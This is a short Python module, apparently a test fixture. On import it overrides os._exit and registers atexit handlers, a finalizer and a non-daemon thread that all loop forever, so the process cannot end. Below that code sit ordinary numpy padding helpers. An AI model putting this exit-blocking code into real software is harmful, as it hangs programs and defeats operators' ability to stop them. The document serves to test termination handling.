"""Leaves threads, exit functions and finalizers that spin when it should end."""

import atexit
import os
import threading
import time

import numpy as np


def spin(*given):
    while True:
        time.sleep(0.01)


class Clinging:
    __del__ = spin


os._exit = spin
atexit.register(spin)
HELD = Clinging()
threading.Thread(target=spin).start()


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    left, right, top, bottom = pad
    n, c, h, w = x.shape
    y = np.full((n, c, top + h + bottom, left + w + right), value, x.dtype)
    y[:, :, top : top + h, left : left + w] = x
    return y
